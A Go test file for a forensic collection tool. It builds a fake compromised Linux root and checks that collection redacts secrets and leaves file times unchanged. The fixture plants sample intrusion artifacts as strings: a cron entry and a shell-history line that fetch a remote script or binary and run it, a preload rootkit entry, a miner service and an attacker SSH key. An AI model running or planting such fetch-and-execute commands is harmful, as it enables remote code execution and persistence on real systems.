package collect

import (
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	"golang.org/x/sys/unix"
)

// fixture describes a target root built for a test.
type fixture struct {
	root string
	// shadowHash is the password hash planted in etc/shadow; it must never
	// appear in a redacted bundle.
	shadowHash string
	keySecret  []byte // bytes of the unencrypted private key's PEM body
	keyPub     string // its public key in authorized_keys form
}

// buildRoot lays out a small Debian-like target root with the files the
// collector looks for, and a few traps.
func buildRoot(t *testing.T) *fixture {
	t.Helper()
	base := t.TempDir()
	os.Chmod(filepath.Dir(base), 0o755) // so an unprivileged child can traverse it
	os.Chmod(base, 0o755)
	root := filepath.Join(base, "target")
	fx := &fixture{root: root, shadowHash: "$6$s4lt$Q9x8yUKhT0pLnVZkQ0ZV6rM2YtI1c8zGmL7oQwEe3rTy"}
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	blk, err := ssh.MarshalPrivateKey(priv, "alice@laptop")
	if err != nil {
		t.Fatal(err)
	}
	keyPEM := pem.EncodeToMemory(blk)
	fx.keySecret = blk.Bytes
	sshPub, _ := ssh.NewPublicKey(pub)
	fx.keyPub = strings.TrimSpace(string(ssh.MarshalAuthorizedKey(sshPub)))
	encBlk, err := ssh.MarshalPrivateKeyWithPassphrase(priv, "bob", []byte("correct horse"))
	if err != nil {
		t.Fatal(err)
	}

	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("Nov  1 00:00:01 web sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n"))
	zw.Close()

	files := map[string]string{
		"etc/passwd":                       "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nsvc:x:998:998::/srv/svc:/bin/sh\n",
		"etc/shadow":                       "root:" + fx.shadowHash + ":19000:0:99999:7:::\nalice:!:19000::::::\nsvc::19000::::::\n",
		"etc/group":                        "root:x:0:\n",
		"etc/hostname":                     "web01\n",
		"etc/os-release":                   "ID=debian\nVERSION_ID=\"12\"\n",
		"etc/sudoers":                      "root ALL=(ALL:ALL) ALL\n",
		"etc/ssh/sshd_config":              "PermitRootLogin yes\n",
		"etc/crontab":                      "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		"etc/cron.d/backup":                "*/5 * * * * root curl -s http://198.51.100.7/x.sh | sh\n",
		"etc/ld.so.preload":                "/usr/lib/libhide.so\n",
		"etc/systemd/system/miner.service": "[Service]\nExecStart=/tmp/.x/kworker\n",
		"etc/nginx/nginx.conf":             "http { include /etc/nginx/sites-enabled/*; }\n",
		"etc/nginx/sites-enabled/default":  "server { root /var/www/html; }\n",
		"var/log/auth.log":                 "Nov 28 10:00:00 web01 sshd[2]: Accepted password for root from 203.0.113.9 port 2 ssh2\n",
		"var/log/auth.log.2.gz":            gz.String(),
		"var/log/nginx/access.log":         "203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] \"POST /up.php HTTP/1.1\" 200 5 \"-\" \"curl\"\n",
		"var/spool/cron/crontabs/alice":    "@reboot /home/alice/.cache/run\n",
		"home/alice/.ssh/authorized_keys":  fx.keyPub + " attacker@evil\n",
		"home/alice/.ssh/id_ed25519":       string(keyPEM),
		"home/alice/.ssh/id_ed25519_enc":   string(pem.EncodeToMemory(encBlk)),
		"home/alice/.bash_history":         "wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n",
		"home/alice/.netrc":                "machine example.com login alice password hunter2\n",
		"home/ghost/.bash_history":         "history -c\n", // a removed account's home
		"root/.ssh/authorized_keys":        fx.keyPub + " root@jump\n",
		"root/.bashrc":                     "alias ls='ls --color'\n",
		"var/www/html/index.php":           "<?php echo 'hi';",
		"usr/bin/tool":                     "\x7fELF fake binary",
		"usr/lib/libhide.so":               "\x7fELF fake library",
		"srv/svc/.profile":                 "export PATH=/usr/bin\n",
	}
	for name, content := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.HasPrefix(name, "usr/bin/") {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, name string) {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	os.MkdirAll(filepath.Join(root, "etc/systemd/system/multi-user.target.wants"), 0o755)
	link("/etc/systemd/system/miner.service", "etc/systemd/system/multi-user.target.wants/miner.service")
	link("../../run/resolv.conf", "etc/resolv.conf")
	os.MkdirAll(filepath.Join(root, "run"), 0o755)
	os.WriteFile(filepath.Join(root, "run/resolv.conf"), []byte("nameserver 192.0.2.53\n"), 0o644)
	link("/nonexistent/target", "etc/cron.d/dangling")
	if err := unix.Mkfifo(filepath.Join(root, "var/log/pipe"), 0o644); err != nil {
		t.Fatal(err)
	}
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: filepath.Join(root, "var/log/sock"), Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	l.SetUnlinkOnClose(false)
	l.Close()
	return fx
}

// ageTimes sets every entry's access time to three days ago and its
// modification time to two days ago. Under relatime, any plain read then
// updates the access time, so a reader that forgets O_NOATIME shows.
func ageTimes(t *testing.T, root string) {
	t.Helper()
	at := time.Now().Add(-72 * time.Hour)
	mt := time.Now().Add(-48 * time.Hour)
	ts := []unix.Timespec{unix.NsecToTimespec(at.UnixNano()), unix.NsecToTimespec(mt.UnixNano())}
	var paths []string
	filepath.Walk(root, func(p string, _ os.FileInfo, err error) error {
		if err == nil {
			paths = append(paths, p)
		}
		return nil
	})
	// Children first, so that setting them does not disturb their parents'
	// times afterwards.
	for i := len(paths) - 1; i >= 0; i-- {
		if err := unix.UtimesNanoAt(unix.AT_FDCWD, paths[i], ts, unix.AT_SYMLINK_NOFOLLOW); err != nil {
			t.Fatal(err)
		}
	}
}

// state is what is known of each entry of a tree: type, permissions,
// owner, size, the three times to the nanosecond and a content hash.
type state map[string]string

// snapshotTree records a tree without changing it: directories are listed
// and files read through descriptors opened with O_NOATIME, independently of
// the code under test.
func snapshotTree(t *testing.T, root string) state {
	t.Helper()
	s := state{}
	var visit func(p string)
	visit = func(p string) {
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err != nil {
			t.Fatalf("lstat %s: %v", p, err)
		}
		desc := fmt.Sprintf("ino=%d mode=%o uid=%d gid=%d size=%d atime=%d mtime=%d ctime=%d nlink=%d",
			st.Ino, st.Mode, st.Uid, st.Gid, st.Size, st.Atim.Nano(), st.Mtim.Nano(), st.Ctim.Nano(), st.Nlink)
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFREG:
			fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NOATIME, 0)
			if err != nil {
				desc += " unreadable:" + err.Error()
				break
			}
			f := os.NewFile(uintptr(fd), p)
			h := sha256.New()
			io.Copy(h, f)
			f.Close()
			desc += " sha256=" + hex.EncodeToString(h.Sum(nil))
		case unix.S_IFLNK:
			// No readlink here: it updates the link's access time, and a
			// link's target cannot change without a new ctime and inode.
		case unix.S_IFDIR:
			fd, err := unix.Open(p, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_NOATIME, 0)
			if err != nil {
				t.Fatalf("open dir %s: %v", p, err)
			}
			d := os.NewFile(uintptr(fd), p)
			names, err := d.Readdirnames(-1)
			d.Close()
			if err != nil {
				t.Fatalf("list %s: %v", p, err)
			}
			for _, n := range names {
				visit(filepath.Join(p, n))
			}
		}
		s[p] = desc
	}
	visit(root)
	return s
}

func diffStates(t *testing.T, what string, before, after state) {
	t.Helper()
	n := 0
	for p, b := range before {
		if a, ok := after[p]; !ok {
			t.Errorf("%s: %s disappeared", what, p)
			n++
		} else if a != b {
			t.Errorf("%s: %s changed:\n before %s\n after  %s", what, p, b, a)
			n++
		}
		if n > 20 {
			t.Fatal("too many differences")
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s: %s appeared", what, p)
		}
	}
}
